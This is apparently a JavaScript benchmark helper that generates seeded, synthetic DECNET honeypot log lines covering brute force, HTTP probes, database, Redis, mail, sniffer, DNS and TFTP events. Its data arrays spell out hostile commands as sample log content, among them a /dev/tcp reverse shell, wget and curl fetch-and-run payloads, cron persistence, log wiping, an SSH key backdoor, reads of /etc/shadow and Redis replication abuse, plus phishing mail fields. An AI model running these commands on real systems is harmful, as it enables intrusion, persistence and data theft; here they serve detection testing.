/**
 * Generates realistic DECNET log lines for benchmarks: a deterministic
 * (seeded) mix of SSH/Telnet brute force, shell commands in both the
 * relay@55555 form and the `CMD ...` free-text form, HTTP probes, database
 * and Redis commands, a few logger-style lines with several SD elements,
 * IPv6 attackers and ~0.5% junk lines. With `everyKind: true`, a third of
 * the database share and the connection lines become the other event kinds
 * the tagger reads, in DECNET's shapes: Redis `command` events, the
 * elasticsearch decky, open-relay mail (`message_stored`), captured files,
 * sniffer SYN fingerprints and IPv6 leaks, DNS zone transfers and TFTP.
 *
 *   import {generateLines, writeLogFile} from './lib/gen-logs.js'
 *   for (const line of generateLines(1000)) ...
 *   await writeLogFile('/tmp/x.log', 1_000_000)
 *
 * Also a CLI: node bench/lib/gen-logs.js COUNT [FILE]  (stdout when no FILE)
 */
import {createWriteStream} from 'node:fs'
import {once} from 'node:events'
import {pathToFileURL} from 'node:url'

const DECKIES = Array.from({length: 24}, (_, i) => `decky-${String(i + 1).padStart(2, '0')}`)
const USERS = ['root', 'admin', 'ubuntu', 'test', 'oracle', 'pi', 'postgres', 'user', 'git', 'ftpuser']
const PASSWORDS = ['123456', 'password', 'admin', 'root', '1qaz2wsx', 'raspberry', 'P@ssw0rd', 'toor', 'qwerty', 'letmein']
const COMMANDS = [
  'uname -a', 'cat /etc/passwd', 'id', 'whoami', 'cat /proc/cpuinfo | grep name | wc -l', 'free -m', 'ls -la /tmp',
  'wget http://198.51.100.9/x.sh -O /tmp/x.sh', 'chmod +x /tmp/x.sh', 'cd /tmp && ./x.sh', 'crontab -l',
  '(crontab -l; echo "* * * * * /tmp/.x/run") | crontab -', 'history -c', 'rm -rf /var/log/wtmp',
  'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 key@host" >> ~/.ssh/authorized_keys', 'ps aux', 'netstat -antp',
  'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1', 'curl -s http://198.51.100.20/xmrig.tar.gz | tar xz', 'nproc',
  'cat /etc/shadow', 'ifconfig', 'w', 'lscpu', 'useradd -m -s /bin/bash support', 'echo "support:Pa55" | chpasswd',
]
const HTTP_PATHS = ['/', '/wp-login.php', '/.env', '/admin', '/phpmyadmin/', '/cgi-bin/luci', '/boaform/admin/formLogin', '/shell.php?cmd=id']
const SQL = ['select version()', 'show databases', 'select * from mysql.user', "select load_file('/etc/passwd')"]
const REDIS = ['INFO', 'CONFIG SET dir /var/spool/cron', 'CONFIG SET dbfilename root', 'SAVE', 'FLUSHALL']
const REDIS_ARGS = [['GET', "['session:42']"], ['CONFIG', "['SET', 'dir', '/root/.ssh']"], ['SET', "['x', '*/1 * * * * curl -fsSL http://198.51.100.9/a.sh | sh']"], ['KEYS', "['*']"], ['SLAVEOF', "['198.51.100.9', '21000']"], ['PING', '[]']]
const SHA = '5d41402abc4b2a76b9719d911017c592aa11bb22cc33dd44ee55ff6677889900'
const EVERY_KIND = [
  (ip, pick) => ['redis', 'command', (([cmd, args]) => ({src: ip, cmd, args}))(pick(REDIS_ARGS))],
  (ip, pick) => ['elasticsearch', pick(['delete_request', 'post_request', 'cat_api']), {src: ip, method: 'POST', path: pick(['/_all', '/customers/_search?size=10000', '/_cat/indices'])}],
  (ip, pick) => ['smtp_relay', 'message_stored', {src: ip, mail_from: 'ceo@paypa1.example.net', rcpt_to: pick(['a@corp.example.com', Array.from({length: 30}, (_, i) => `u${i}@corp.example.com`).join(',')]), subject: pick(['Your order', 'Urgent wire transfer']), from_hdr: pick(['"PayPal <service@paypal.com>" <ceo@paypa1.example.net>', 'Ops <ceo@paypa1.example.net>']), attachment_count: '1', attachments_json: JSON.stringify([{filename: pick(['invoice.pdf.exe', 'report.pdf']), content_type: 'application/octet-stream', size: 41_234, sha256: SHA, macro_indicator: false, encrypted: false}]), urls_json: JSON.stringify([pick(['https://xn--pypal-4ve.com/login', 'https://shop.example.org/'])]), body_base64_bytes: '0', html_smuggling: '0'}],
  (ip, pick) => ['ssh', 'file_captured', {src_ip: ip, sha256: SHA, size: '412', orig_path: pick(['/tmp/x.sh', '/root/.bash_history', '/root/.ssh/authorized_keys']), attribution: 'pid-chain', writer_comm: pick(['wget', 'bash']), writer_uid: '0'}],
  (ip, pick) => ['sniffer', 'tcp_syn_fingerprint', {src_ip: ip, src_port: '61001', dst_ip: '10.0.0.21', dst_port: '22', ttl: '41', window: '1024', mss: '1460', options_sig: 'M,W,T,S,S', os_guess: pick(['nmap', 'linux', 'windows'])}],
  (ip, pick) => ['sniffer', 'ipv6_link_local_leak', {src_ip: 'fe80::1c2b:3aff:fe4d:5e6f', dst_ip: 'fe80::1', iid_kind: 'eui64', mac_oui: '1e:2b:3a', on_iface: pick(['eth0', 'eth1'])}],
  (ip, pick) => ['dns', pick(['zone_transfer', 'query']), {src: ip, qname: 'corp.example', qtype: 'AXFR'}],
  (ip, pick) => ['tftp', 'request', {src: ip, op: 'RRQ', filename: pick(['running-config', 'pxelinux.0']), mode: 'octet'}],
]

/** A small seeded PRNG (mulberry32): the same seed gives the same lines. */
function random(seed) {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d_2b_79_f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

const escape = (value) => value.replaceAll('\\', '\\\\').replaceAll('"', '\\"').replaceAll(']', '\\]')
const sd = (params) => `[relay@55555 ${Object.entries(params).map(([k, v]) => `${k}="${escape(String(v))}"`).join(' ')}]`

/**
 * Yields `count` lines. Options: `seed` (default 42), `attackers` (distinct
 * attacker IPs, default 5000), `junkRate` (default 0.005), `start` (ms epoch
 * of the first line), `stepMs` (mean gap between lines, default 20),
 * `everyKind` (default false: see above).
 */
export function* generateLines(count, options = {}) {
  const rand = random(options.seed ?? 42)
  const pick = (list) => list[Math.floor(rand() * list.length)]
  const attackerCount = options.attackers ?? 5000
  const junkRate = options.junkRate ?? 0.005
  const stepMs = options.stepMs ?? 20
  let time = options.start ?? Date.UTC(2026, 10, 1, 0, 0, 0)
  const ipOf = (n) => {
    if (n % 50 === 7) return `2001:db8:${(n % 65_535).toString(16)}::${(n % 251) + 1}`
    const nets = ['192.0.2', '198.51.100', '203.0.113']
    // documentation ranges first, then the benchmarking range 198.18.0.0/15 (RFC 2544)
    return n < 750 ? `${nets[n % 3]}.${(n % 250) + 1}` : `198.${18 + ((n >> 16) & 1)}.${(n >> 8) & 255}.${n & 255}`
  }

  for (let i = 0; i < count; i++) {
    time += Math.floor(rand() * stepMs * 2)
    if (rand() < junkRate) {
      yield pick(['GET / HTTP/1.1', '<13>Nov  1 12:00:00 decky-01 sshd[42]: legacy bsd line', '<38>1 not-a-time decky-01 ssh - x -', '<999>1 2026-11-01T00:00:00Z x y - z -', ''])
      continue
    }

    const ip = ipOf(Math.floor(rand() * rand() * attackerCount))
    const decky = pick(DECKIES)
    const ts = new Date(time).toISOString().replace('Z', `${String(Math.floor(rand() * 1000)).padStart(3, '0')}+00:00`)
    const pid = 1000 + Math.floor(rand() * 30_000)
    const roll = rand()
    if (roll < 0.35) {
      const ok = rand() < 0.03
      const user = pick(USERS)
      yield `<38>1 ${ts} ${decky} ssh ${pid} ${ok ? 'login_success' : 'login_failed'} ${sd({src_ip: ip, src_port: 30_000 + pid, username: user, password: pick(PASSWORDS)})} ${ok ? 'Accepted password' : 'Failed password'} for ${user} from ${ip} port ${30_000 + pid} ssh2`
    } else if (roll < 0.45) {
      yield `<38>1 ${ts} ${decky} telnet ${pid} login_attempt ${sd({src_ip: ip, username: pick(USERS), password: pick(PASSWORDS), success: 'false'})}`
    } else if (roll < 0.6) {
      yield `<38>1 ${ts} ${decky} ssh ${pid} command ${sd({src_ip: ip, username: 'root', command: pick(COMMANDS)})}`
    } else if (roll < 0.72) {
      yield `<86>1 ${ts} ${decky} ssh ${pid} command - CMD uid=0 user=root src=${ip} pwd=/root cmd=${pick(COMMANDS)}`
    } else if (roll < 0.88) {
      yield `<134>1 ${ts} ${decky} http ${pid} request ${sd({src_ip: ip, method: rand() < 0.8 ? 'GET' : 'POST', path: pick(HTTP_PATHS), status: 404, user_agent: 'Mozilla/5.0 (compatible; zgrab/0.x)'})}`
    } else if (options.everyKind && (roll >= 0.97 || (roll >= 0.88 && roll < 0.91))) {
      const [app, type, fields] = pick(EVERY_KIND)(ip, pick)
      yield `<134>1 ${ts} ${decky} ${app} - ${type} ${sd(fields)}`
    } else if (roll < 0.93) {
      yield `<134>1 ${ts} ${decky} mysql ${pid} query ${sd({src_ip: ip, user: 'root', query: pick(SQL)})}`
    } else if (roll < 0.97) {
      yield `<134>1 ${ts} ${decky} redis ${pid} redis_command ${sd({client_ip: ip, command: pick(REDIS)})}`
    } else {
      yield `<38>1 ${ts} ${decky} sshd ${pid} connection [timeQuality tzKnown="1" isSynced="1" syncAccuracy="${Math.floor(rand() * 900_000)}"]${sd({remote_addr: `${ip.includes(':') ? `[${ip}]` : ip}:${30_000 + pid}`})} \uFEFFconnection from ${ip}`
    }
  }
}

/** Writes `count` generated lines to `path`; resolves when the file is complete. */
export async function writeLogFile(path, count, options = {}) {
  const out = createWriteStream(path)
  let buffer = ''
  for (const line of generateLines(count, options)) {
    buffer += `${line}\n`
    if (buffer.length > 1 << 20) {
      if (!out.write(buffer)) await once(out, 'drain')
      buffer = ''
    }
  }

  out.end(buffer)
  await once(out, 'finish')
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const count = Number(process.argv[2] ?? 1000)
  if (!Number.isInteger(count) || count < 0) throw new Error(`Expected COUNT to be a non-negative integer, got \`${process.argv[2]}\``)
  if (process.argv[3]) await writeLogFile(process.argv[3], count)
  else for (const line of generateLines(count)) process.stdout.write(`${line}\n`)
}
